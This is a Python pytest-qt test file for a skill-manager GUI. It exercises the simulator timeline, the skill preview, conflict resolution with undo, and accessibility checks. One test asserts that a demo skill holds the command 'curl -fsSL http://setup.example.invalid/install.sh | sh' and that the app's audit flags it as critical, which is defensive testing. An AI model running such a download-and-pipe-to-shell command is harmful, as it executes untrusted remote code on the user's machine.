"""Journeys through the Simulator, Listing & expansion and Conflicts pages (pytest-qt, offscreen), on the demo
and on a generated 2,000-package monorepo whose packages share skill names. Asserts on model data."""
from __future__ import annotations

import sys
import threading
from pathlib import Path

import pytest

pytest.importorskip("PySide6")
from PySide6.QtCore import QSettings, Qt  # noqa: E402

from skillmanager.gui.models.registry_model import Role  # noqa: E402
from skillmanager.gui.pages.simulator_page import FACTS_ROLE  # noqa: E402

LONG = 30_000
sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "benchmarks"))


@pytest.fixture()
def make_window(qtbot, tmp_path):
    from skillmanager.gui import temp_dirs
    from skillmanager.gui.context import AppContext
    from skillmanager.gui.main_window import MainWindow

    made = []

    def make(workspace=None, width=1280, height=800):
        from skillmanager.gui.app import new_demo_workspace

        settings = QSettings(str(tmp_path / f"settings{len(made)}.ini"), QSettings.Format.IniFormat)
        context = AppContext(settings)
        win = MainWindow(context, watch=False)
        context.set_workspace(workspace if workspace is not None else new_demo_workspace())
        qtbot.addWidget(win)
        win.resize(width, height)
        win.show()
        qtbot.waitUntil(lambda: context.snapshot is not None and not context.scanning
                        and not context.snapshot.partial, timeout=LONG)
        made.append(context)
        return win

    yield make
    for context in made:
        context.shutdown(5000)
    temp_dirs.remove_all()


def _map_index(page, path: Path, qtbot) -> None:
    """Show `path` in the map, opening its folders on the way as a person would (lazily loaded)."""
    root = Path(page._root)
    current = root
    for part in path.relative_to(root).parts:
        current = current / part
        qtbot.waitUntil(lambda c=current: _row(page, c).isValid(), timeout=LONG)
        if current != path:
            page.files.expand(_row(page, current))


def _row(page, path: Path):
    """A fresh map index (QFileSystemModel indexes go stale as folders load: never keep one across waits)."""
    return page.proxy.mapFromSource(page.fs_model.index(str(path)))


def _facts(page, path: Path, qtbot):
    qtbot.waitUntil(lambda: str(path) in page.proxy.facts, timeout=LONG)
    return page.proxy.facts[str(path)]


def _headlines(page) -> list[str]:
    return [page.timeline.item(i).text() for i in range(page.timeline.count())]


def test_simulator_journey_on_the_demo(qtbot, make_window, tmp_path):
    win = make_window()
    page = win.simulator
    win.tabs.setCurrentWidget(page)
    qtbot.waitUntil(lambda: page.session is not None and page.project_map is not None, timeout=LONG)
    cwd = Path(win.context.workspace.cwd)
    assert page.status.text().startswith("Double-click a file")
    # the map: a folder holding skills has its count, a folder git ignores is dimmed with its rule
    _map_index(page, cwd / "packages" / "api", qtbot)
    assert _facts(page, cwd / "packages" / "api", qtbot).skill_count == 2
    assert _row(page, cwd / "packages" / "api").data(Qt.ItemDataRole.DisplayRole) == "api   [2 skills]"
    _map_index(page, cwd / "vendor", qtbot)
    vendor_facts = _facts(page, cwd / "vendor", qtbot)
    assert vendor_facts.ignored_rule == ".gitignore:4 (platform/vendor/)"
    vendor = _row(page, cwd / "vendor")
    assert ".gitignore:4 (platform/vendor/)" in vendor.data(Qt.ItemDataRole.ToolTipRole)
    assert vendor.data(Qt.ItemDataRole.ForegroundRole) is not None and not page.proxy.hasChildren(vendor)
    assert vendor.data(FACTS_ROLE) is vendor_facts
    migration = cwd / "db" / "migrations" / "001_init.sql"
    _map_index(page, migration, qtbot)
    assert _facts(page, migration, qtbot).activates == (("sql-review", "db/migrations/*.sql"),)
    assert "activates sql-review" in _row(page, migration).data(Qt.ItemDataRole.DisplayRole)
    qtbot.waitUntil(lambda: page.suggestions.count() > 0, timeout=LONG)
    suggestions = [page.suggestions.item(i).text() for i in range(page.suggestions.count())]
    assert "Read a file in packages/api — 2 skills would be discovered" in suggestions

    # step 1: Enter on a file in the map (Read); step 2: a typed path in the ignored folder; step 3: Edit from the menu
    server = cwd / "packages" / "api" / "src" / "server.ts"
    _map_index(page, server, qtbot)
    page.files.setCurrentIndex(_row(page, server))
    page.files.setFocus()
    qtbot.keyClick(page.files, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: page.timeline.count() == 1 and not page.busy, timeout=LONG)
    page.path_edit.setText("vendor/old-sdk/index.js")
    qtbot.keyClick(page.path_edit, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: page.timeline.count() == 2 and not page.busy, timeout=LONG)
    page.files.scrollTo(_row(page, migration))
    page._map_menu(page.files.visualRect(_row(page, migration)).center())
    edit = next(a for a in page.context_menu.actions() if a.text() == "Edit 001_init.sql")
    page.context_menu.close()
    edit.trigger()
    qtbot.waitUntil(lambda: page.timeline.count() == 3 and not page.busy, timeout=LONG)
    assert threading.current_thread().name not in page.steps_runner.worker_threads
    assert page.steps_runner.worker_threads  # every step ran on the simulator's worker
    assert _headlines(page) == [
        "1. Read packages/api/src/server.ts — 2 skills discovered, 1 activated",
        "2. Read vendor/old-sdk/index.js — skipped 1 ignored folder (.gitignore:4)",
        "3. Edit db/migrations/001_init.sql — 1 activated"]
    page.timeline.setCurrentRow(1)
    detail = page.step_view.toPlainText()
    assert "git ignores vendor/old-sdk by .gitignore:4 (`platform/vendor/`)" in detail
    page.timeline.setCurrentRow(0)
    detail = page.step_view.toPlainText()
    assert "Discovered packages/api/.claude/skills:" in detail and "What the model received" in detail
    assert page.timeline.item(0).data(Qt.ItemDataRole.UserRole).model_text.strip() in detail
    added = [p.step for p in page.listing_parts]
    assert added[0] is None and 1 in added and 3 in added  # the listing after: start-up text, then what steps added
    assert "Added by step 1" in page.listing_view.toPlainText()
    # the registry tree: the session's skills in their own group, marked simulated
    marks = win.registry_panel.model.simulated_marks()
    assert {m.how for m in marks.values()} >= {"discovered", "activated"}
    assert "simulated session" in win.registry_panel.summary.text()

    page.step_back()
    qtbot.waitUntil(lambda: page.timeline.count() == 2 and not page.busy, timeout=LONG)
    assert [r.step.op for r in page.session.results] == ["Read", "Read"]
    scenario = tmp_path / "scenario.json"
    page.save_scenario(scenario)
    page.reset()
    qtbot.waitUntil(lambda: page.timeline.count() == 0 and not page.busy, timeout=LONG)
    assert page.session.results == [] and not win.registry_panel.model.simulated_marks()
    assert page.status.text().startswith("Reset: a fresh session")
    page.load_scenario(scenario)
    qtbot.waitUntil(lambda: page.timeline.count() == 2 and not page.busy, timeout=LONG)
    assert _headlines(page) == [
        "1. Read packages/api/src/server.ts — 2 skills discovered, 1 activated",
        "2. Read vendor/old-sdk/index.js — skipped 1 ignored folder (.gitignore:4)"]
    assert "Loaded and replayed 2 steps" in page.status.text()


def test_simulator_on_a_2000_package_monorepo_with_shared_names(qtbot, make_window, tmp_path):
    import realistic

    from skillmanager.core.load.workspace import Workspace

    repo = realistic.build_monorepo(tmp_path / "mono", packages=2000, names=3)
    home = repo.parent
    workspace = Workspace.create(home=home, cwd=repo, managed_root=None, env={"HOME": str(home)})
    win = make_window(workspace, width=1024, height=700)
    page = win.simulator
    win.tabs.setCurrentWidget(page)
    qtbot.waitUntil(lambda: page.session is not None and page.project_map is not None, timeout=LONG)
    packages = repo / "packages"
    _map_index(page, packages / "pkg-0001", qtbot)
    assert _facts(page, packages / "pkg-0001", qtbot).skill_count == 3
    ignored = _facts(page, packages / "pkg-0010", qtbot)
    assert ignored.ignored_rule == ".gitignore:4 (packages/pkg-0010/)" and ignored.skill_count == 3
    assert _facts(page, packages / "pkg-0000", qtbot).ignored_rule is None  # `!packages/pkg-0000/` takes it back
    for folder in ("pkg-0001", "pkg-0002", "pkg-0010"):
        page.add_step("Read", packages / folder / "src" / "lib" / "index.ts")
    page.add_step("Edit", packages / "pkg-0005" / "src" / "lib" / "index.ts")
    qtbot.waitUntil(lambda: page.timeline.count() == 4 and not page.busy, timeout=LONG)
    assert page.steps_runner.worker_threads and threading.current_thread().name not in page.steps_runner.worker_threads
    first, second, third, fourth = page.session.results
    assert len([n for n in first.new_skills if n.how == "discovered"]) == 3
    assert second.clashes  # the same three names again: every copy is scoped or shadowed, and says so
    assert "skipped 1 ignored folder (.gitignore:4)" in page.timeline.item(2).text()
    assert [a.skill.name for a in fourth.activated] == ["cond-000"]
    page.timeline.setCurrentRow(3)
    detail = page.step_view.toPlainText()
    # `packages/pkg-0005/**` matches through its folder, as the `ignore` package reports it
    assert "Activated cond-000: its paths: pattern `packages/pkg-0005` matches packages/pkg-0005/src/lib/index.ts" \
        in detail
    page.step_back()
    qtbot.waitUntil(lambda: page.timeline.count() == 3 and not page.busy, timeout=LONG)
    page.reset()
    qtbot.waitUntil(lambda: page.timeline.count() == 0 and not page.busy, timeout=LONG)


def test_preview_shows_the_body_of_a_skill_claude_code_asks_about(qtbot, make_window):
    from skillmanager.core.layers.expansion import expand

    win = make_window(width=1280, height=800)
    win.tabs.setCurrentWidget(win.preview)
    assert win.preview.splitter.orientation() == Qt.Orientation.Horizontal  # side by side at 1280
    expansion = win.preview.expansion
    skills = {s.name: s for s in win.context.snapshot.skills if s.state.is_winner}
    win.registry_panel.select_skill(skills["quick-setup"])
    qtbot.waitUntil(lambda: expansion.view is not None and expansion.view.name == "quick-setup", timeout=LONG)
    assert not expansion.banner.isHidden()
    assert expansion.banner_text.text().startswith("Claude Code asks you first")
    assert "curl -fsSL http://setup.example.invalid/install.sh | sh" in expansion.raw.toPlainText()
    assert expansion.refusal_text.isHidden()
    expansion.refusal_button.click()
    exact = expand(win.context.registry, "quick-setup").refusal  # what `skillmanager expand` prints
    assert not expansion.refusal_text.isHidden() and expansion.refusal_text.toPlainText() == exact
    assert not expansion.shell_box.isHidden() and expansion.shell_list.isHidden()  # folded
    assert "worst audit verdict: critical" in expansion.shell_toggle.text()
    assert "audit: critical: downloads code and pipes it to a shell" in expansion.shell_list.item(0).text()
    # the picker follows the selection; a skill's argument-hint is the arguments field's placeholder
    assert expansion.picker.currentText() == "quick-setup (project)"
    expansion.view = None
    deploy = next(i for i in range(expansion.picker.count()) if expansion.picker.itemText(i) == "deploy (project)")
    expansion.picker.activated.emit(deploy)
    qtbot.waitUntil(lambda: expansion.view is not None and expansion.view.name == "deploy", timeout=LONG)
    assert win.registry_panel.view.currentIndex().data(Role.Name) == "deploy"
    assert expansion.args_edit.placeholderText() == "Arguments: <service> [staging|production]"
    assert expansion.banner.isHidden()
    win.resize(1024, 700)
    qtbot.waitUntil(lambda: win.preview.splitter.orientation() == Qt.Orientation.Vertical, timeout=LONG)


def test_conflicts_compare_turn_the_loser_off_and_undo(qtbot, make_window):
    win = make_window(width=1024, height=700)
    page = win.conflicts
    win.tabs.setCurrentWidget(page)
    row = page.select_copy("commit-message", 1)
    assert row is not None
    qtbot.waitUntil(lambda: page.comparison is not None, timeout=LONG)
    conflict, loser = page.current
    assert loser.folder == "~/.claude/skills/commit-message"
    assert page.reason.text().startswith("~/.claude/skills/commit-message (user) loses to ") and page.reason.wordWrap()
    rows = {page.front_matter.item(r, 0).text(): (page.front_matter.item(r, 1).text(), page.front_matter.item(r, 2).text())
            for r in range(page.front_matter.rowCount())}
    assert rows["description"][1] == "My own commit message habits (short subjects, emoji-free)."
    assert "+Keep the subject short. Explain the why in the body." in page.body_diff.toPlainText()
    assert "keyed by the skill's name" in page.explanation.text()
    assert page.folder_of("copy") == str(loser.skill.path.parent)
    assert page.folder_of("winner") == str(conflict.winner.path.parent)
    path, before = loser.skill.path, loser.skill.path.read_bytes()
    winner_before = conflict.winner.path.read_bytes()
    assert page.off_button.isEnabled()
    page.off_button.click()
    qtbot.waitUntil(lambda: page.my_change is not None, timeout=LONG)  # written on the task runner
    assert b"disable-model-invocation: true" in path.read_bytes()
    assert conflict.winner.path.read_bytes() == winner_before
    qtbot.waitUntil(lambda: any(s.path == path and s.disable_model_invocation for s in win.context.snapshot.skills),
                    timeout=LONG)
    qtbot.waitUntil(lambda: page.undo_button.isEnabled(), timeout=LONG)
    assert page.current[1].skill.path == path  # the page still shows the copy after the rescan
    win.registry_panel.select_skill(next(s for s in win.context.snapshot.skills if s.name == "env-check"))
    page.undo_button.click()
    qtbot.waitUntil(lambda: not win.toggles.writing, timeout=LONG)
    assert path.read_bytes() == before
    qtbot.waitUntil(lambda: any(s.path == path and not s.disable_model_invocation
                                for s in win.context.snapshot.skills), timeout=LONG)
    # a rescan keeps the page's copy without taking the registry's selection away
    assert win.registry_panel.view.currentIndex().data(Role.Name) == "env-check"
    # the realpath duplicate explains itself and offers nothing to turn off
    page.select_copy("team-style", 1)
    assert page.reason.text().startswith("The same file reached twice: ")
    qtbot.waitUntil(lambda: page.comparison is not None, timeout=LONG)
    assert not page.off_button.isEnabled() and "the same file reached twice" in page.explanation.text()
    page.reveal_button.click()
    assert win.tabs.currentWidget() is win.skills_page
    assert win.registry_panel.view.currentIndex().data(Role.Name) == "team-style"


def test_every_page_names_its_interactive_widgets(qtbot, make_window):
    from PySide6.QtWidgets import QAbstractButton, QHeaderView, QWidget

    from skillmanager.gui.accessible import INTERACTIVE

    win = make_window(width=1024, height=700)
    for widget in (win.preview, win.conflicts, win.simulator):
        win.tabs.setCurrentWidget(widget)
        page = win.tabs.currentIndex()
        unnamed = [type(w).__name__ for w in widget.findChildren(QWidget)  # a header belongs to its named view
                   if isinstance(w, INTERACTIVE) and not isinstance(w, QHeaderView) and w.isVisibleTo(win) and not (w.accessibleName() or (
                       w.text() if isinstance(w, QAbstractButton) else "")).strip()]
        assert not unnamed, (win.tabs.tabText(page), unnamed)


def test_hidden_pages_catch_up_with_a_file_edit_when_shown(qtbot, make_window):
    """A watched edit while the Skills page is shown leaves the Conflicts page to rebuild when it shows
    (it holds no old skill objects meanwhile); shown, it names the edited text."""
    win = make_window(width=1024, height=700)
    context, page = win.context, win.conflicts
    assert not page.isVisible() and "commit-message" in page.contested_names()
    path = next(s.path for s in context.snapshot.skills if s.name == "commit-message" and s.state.is_winner)
    path.write_text(path.read_text(encoding="utf-8").replace("description:", "description: Edited now,", 1),
                    encoding="utf-8")
    generation = context.refresh([path])
    qtbot.waitUntil(lambda: context.snapshot.generation == generation and not context.scanning
                    and not context.snapshot.partial, timeout=LONG)
    assert context.snapshot.changed_rows is not None  # the incremental path, rows kept in place
    assert page.tree.topLevelItemCount() == 0 and page.current is None  # deferred, old objects let go
    win.tabs.setCurrentWidget(page)
    assert "commit-message" in page.contested_names()
    assert page.select_copy("commit-message", 1) is not None
    qtbot.waitUntil(lambda: page.comparison is not None, timeout=LONG)
    cells = [page.front_matter.item(r, c).text() for r in range(page.front_matter.rowCount()) for c in range(3)
             if page.front_matter.item(r, c) is not None]
    assert any("Edited now," in text for text in cells)
